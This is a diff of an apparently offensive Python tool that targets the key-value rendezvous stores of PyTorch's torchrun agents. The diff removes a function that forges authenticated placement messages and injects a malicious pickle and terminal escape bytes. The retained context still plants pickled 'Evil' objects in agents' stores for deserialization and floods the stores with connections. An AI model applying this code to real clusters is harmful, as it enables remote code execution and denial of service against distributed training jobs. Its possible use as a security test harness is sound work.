@@ -342,25 +342,6 @@ def shout(make):
     return attempt
 
 
-def tell(address, number):
-    """Tell in the store of torchrun's agent where else the job's store would be, as if rank 0 had told."""
-    told, key = SETTINGS["agent"]["told"], SETTINGS["agent"]["key"].encode()
-    secret = [None, b"guess %d" % number][number % 2]
-    proof = mac(door_key(secret, key), b"place", json.dumps(told).encode()).hex()
-    messages = [
-        json.dumps({"place": told, "proof": proof}).encode(),
-        json.dumps(told).encode(),
-        pickle.dumps(Evil()),
-        b"\x1b[2J",
-    ]
-    message = messages[min(number % 8, 3)] if number < SETTINGS["tries"] - 1 else messages[0]
-    with connect(address) as guest:
-        guest.sendall(AGENT_HELLO + AGENT_SET + sized(b"/" + key) + sized(message))
-        guest.shutdown(socket.SHUT_WR)
-        yield
-    return b""
-
-
 def plant(address, number):
     """Leave a pickle in a store of torchrun's agents: where they look for one, and by turns in all other keys too."""
     evil = pickle.dumps(Evil(), protocol=number % (pickle.HIGHEST_PROTOCOL + 1))
@@ -444,22 +425,6 @@ def names_of_stores():
     return [name.replace("@", "\0", 1) for name in found if SQUATTED not in name]
 
 
-def wait_for_doors():
-    """Return where the store listens, as soon as it does."""
-    until = time.monotonic() + CROWD_PATIENCE
-    while True:
-        doors = known_doors()
-        try:
-            if doors:
-                connect(doors[0]).close()
-                return doors
-        except OSError:
-            pass
-        if time.monotonic() > until:
-            return []
-        time.sleep(PAUSE)
-
-
 def wait_for_agents():
     """Return where something listens to all interfaces, as the stores of torchrun's agents do, as soon as it does."""
     until = time.monotonic() + CROWD_PATIENCE
@@ -486,7 +451,7 @@ def main():
     hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     results = {}
-    doors = wait_for_doors() if SETTINGS["waits"] else known_doors()
+    doors = known_doors()
     names = SETTINGS["kinds"]
     if doors:
         results |= attack(doors, {name: one for name, one in kinds().items() if names is None or name in names})
@@ -494,8 +459,6 @@ def main():
         results |= chase()
     if SETTINGS["plants"] and (agents := wait_for_agents()):
         results |= attack(agents, {"pickles in the agents' stores": plant})
-    if doors and SETTINGS["agent"]:
-        results |= attack(doors, {"false answers in the agent's store": tell})
     if doors and SETTINGS["crowd"]:
         results |= crowd(doors)
     if SETTINGS["others"]:
